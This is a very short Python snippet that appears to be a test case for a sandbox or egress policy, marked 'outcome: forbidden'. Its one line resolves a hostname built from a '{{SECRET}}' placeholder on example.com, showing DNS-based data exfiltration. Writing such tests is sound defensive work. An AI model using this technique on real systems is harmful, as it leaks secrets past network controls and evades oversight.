# outcome: forbidden
# Names can carry data out even where connections cannot.
import socket

socket.getaddrinfo("{{SECRET}}.example.com", 80)
